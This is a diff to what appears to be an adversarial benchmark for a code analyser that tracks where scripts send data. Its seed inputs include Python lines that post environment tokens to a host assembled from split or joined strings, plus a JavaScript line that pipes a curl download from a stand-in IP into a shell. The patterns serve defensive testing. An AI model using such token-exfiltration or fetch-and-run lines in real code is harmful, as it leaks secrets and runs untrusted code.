@@ -26,8 +26,9 @@ counts, and only when it does not name every host the text says its sends can go
 `flow_hosts`), and search lines that differ only in their digits once (`Screen.lines`). A flood of
 credentials each sent to its own API (`requests.post('https://api.example.com/v1',
 data=os.getenv('EXAMPLE_TOKEN_{n}'))`) is analysed in full, every read and send walked and judged
-on its own, when the text cannot tell the hosts: a host built out of pieces, or values handed on
-(assignments, functions) in a script that also names another host.
+on its own, when the text cannot tell the hosts: a host built out of pieces (`''.join([…])`; plain
+strings added together are read as the one string they make, `constants.strings_added`), or
+values handed on (assignments, functions) in a script that also names another host.
 
     .venv/bin/python bench/adversarial_treesitter.py [--size BYTES] [--only LANGS] [--verbose]
 """
@@ -67,6 +68,7 @@ SEEDS: dict[FileKind, list[str]] = {
         "requests.post('https://api.example.com/v1', data=os.getenv('A{n}'))\n",
         "requests.post('https://api.example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
         "requests.post('https://api.' + 'example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
+        "requests.post(''.join(['https://api.', 'example.com/v1']), data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
     ],
     FileKind.JAVASCRIPT: [
         "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n",
